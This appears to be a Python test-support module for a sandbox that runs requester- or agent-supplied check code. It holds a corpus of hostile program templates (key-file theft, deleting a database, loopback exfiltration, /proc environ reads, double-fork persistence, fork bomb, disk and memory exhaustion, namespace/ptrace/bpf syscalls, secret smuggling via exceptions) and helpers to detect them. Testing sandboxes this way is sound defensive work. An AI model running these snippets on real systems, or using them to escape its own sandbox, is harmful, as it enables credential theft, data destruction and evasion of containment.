"""A hostile-code corpus: what a requester's python check or an agent's python exam answer
might try. Each program defines `check(outputs)`, which returns True only when its attack
worked, so a box that holds fails every one of them; each names a host path, port or marker
the way an attacker who knows the machine would.

`hostile_programs(target)` fills them in for one home, one loopback listener and one marker;
`Listener` is that listener (a real TCP server on 127.0.0.1 that records whatever reaches it);
`survivors(marker)` finds host processes whose command line holds the marker.
"""

from __future__ import annotations

import os
import socket
import sys
import threading
from dataclasses import dataclass, field
from pathlib import Path
from types import TracebackType

BENIGN = """
def check(outputs):
    return sorted(outputs) == ["lines-sum"]
"""

PROGRAMS: dict[str, str] = {
    "read the operator's and agents' keys": """
import glob
def check(outputs):
    found = glob.glob("{home}/keys/*.json") + glob.glob("{home}/keys/**/*.json", recursive=True)
    stolen = [open(path).read() for path in found]
    return bool(stolen)
""",
    "open accord.db": """
import sqlite3
def check(outputs):
    db = sqlite3.connect("file:{home}/accord.db?mode=ro", uri=True)
    return db.execute("select count(*) from sqlite_master").fetchone()[0] > 0
""",
    "write and delete in the home": """
import os
def check(outputs):
    with open("{home}/planted-by-a-check", "w") as planted:
        planted.write("owned")
    os.remove("{home}/accord.db")
    return True
""",
    "connect to a loopback listener": """
import socket
def check(outputs):
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as connection:
        connection.sendall(b"stolen key")
    return True
""",
    "resolve a host name": """
import socket
def check(outputs):
    return bool(socket.getaddrinfo("localhost", 80) or socket.gethostbyname("example.com"))
""",
    "read /proc/PPID/environ and /proc/PPID/cwd": """
import os
def check(outputs):
    environ = open(f"/proc/{{os.getppid()}}/environ", "rb").read()
    cwd = os.readlink(f"/proc/{{os.getppid()}}/cwd")
    return bool(environ or cwd)
""",
    "read the host's environment": """
import os
def check(outputs):
    return any(k.startswith(("ACCORD", "PG", "OPENAI", "VIRTUAL_ENV")) for k in os.environ)
""",
    "import the project": """
import sys
def check(outputs):
    sys.path[:0] = ["{project}", "{site}"]
    import accord.ledger.signing
    import accord
    return True
""",
    "double fork, setsid, outlive the run": """
import os, time
def check(outputs):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("{python}", ["python", "-c", "import time; time.sleep(60)  # {marker}"])
        os._exit(0)
    time.sleep(0.2)
    return True
""",
    "fork bomb": """
import os, time
def check(outputs):
    children = 0
    while children < 500:
        try:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        except OSError:
            break
        children += 1
    return children >= 20
""",
    "fill the disk": """
import os
def check(outputs):
    written = 0
    for where in ("{home}", "/tmp", "/dev/shm", "/"):
        for n in range(200):
            try:
                with open(os.path.join(where, f"fill-{{n}}"), "wb") as sink:
                    sink.write(b"x" * (1 << 20))
                written += 1 << 20
            except OSError:
                break
    return written > 64 << 20
""",
    "allocate past the memory limit": """
def check(outputs):
    hog = bytearray(2 << 30)
    return len(hog) > 0
""",
    "spin past the CPU limit": """
def check(outputs):
    while True:
        pass
""",
    "make a namespace, mount, ptrace": """
import ctypes
def check(outputs):
    libc = ctypes.CDLL(None, use_errno=True)
    tries = [
        libc.unshare(0x10000000),  # CLONE_NEWUSER
        libc.unshare(0x00020000),  # CLONE_NEWNS
        libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
        libc.ptrace(16, 1, None, None),  # PTRACE_ATTACH to the box's init
        libc.syscall(321, 0, None, 0),  # bpf
        libc.syscall(250, 0, 0, 0, 0, 0),  # keyctl
        libc.syscall(425, 8, None),  # io_uring_setup
    ]
    return any(result >= 0 for result in tries)
""",
    "open a vsock socket": """
import socket
def check(outputs):
    socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK
    return True
""",
    "system call of another architecture": """
import ctypes, platform
def check(outputs):
    if platform.machine() != "x86_64":
        return False
    return ctypes.CDLL(None).syscall(0x40000000 | 39) > 0  # x32 getpid
""",
    "smuggle a secret through the verdict": """
import glob
def check(outputs):
    secret = "".join(open(path).read() for path in glob.glob("{home}/keys/*.json"))
    raise ValueError("LEAK:" + (secret or "{marker}"))
""",
}


@dataclass(frozen=True)
class Target:
    home: Path
    port: int
    marker: str


def hostile_programs(target: Target) -> dict[str, str]:
    """Every program of the corpus aimed at `target`."""
    site_dir = next((p for p in sys.path if p.endswith("site-packages")), "")
    values = {
        "home": str(target.home),
        "port": str(target.port),
        "marker": target.marker,
        "project": str(Path(__file__).resolve().parents[1]),
        "site": site_dir,
        "python": os.path.realpath(sys.executable),
    }
    return {name: source.format(**values) for name, source in PROGRAMS.items()}


@dataclass
class Listener:
    """A TCP listener on 127.0.0.1 that records every connection and what it sent."""

    received: list[bytes] = field(default_factory=list)
    server: socket.socket | None = None
    thread: threading.Thread | None = None

    @property
    def port(self) -> int:
        assert self.server is not None
        return int(self.server.getsockname()[1])

    def __enter__(self) -> Listener:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()
        return self

    def _serve(self) -> None:
        assert self.server is not None
        while not self.stop.is_set():
            try:
                connection, _ = self.server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(65536) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def __exit__(
        self,
        kind: type[BaseException] | None,
        value: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        self.stop.set()
        assert self.server is not None and self.thread is not None
        self.thread.join(5)
        self.server.close()


def survivors(marker: str) -> list[int]:
    """Host processes whose command line holds `marker` (zombies excluded)."""
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{name}/cmdline").read_bytes()
            state = Path(f"/proc/{name}/stat").read_text().rsplit(")", 1)[-1].split()[0]
        except OSError:
            continue
        if marker.encode() in cmdline and state != "Z" and int(name) != os.getpid():
            found.append(int(name))
    return found


def home_files(home: Path) -> set[str]:
    """Every file under `home` (SQLite's side files aside): a run may add none."""
    return {
        str(path.relative_to(home))
        for path in home.rglob("*")
        if path.is_file() and not path.name.endswith(("-wal", "-shm", "-journal"))
    }
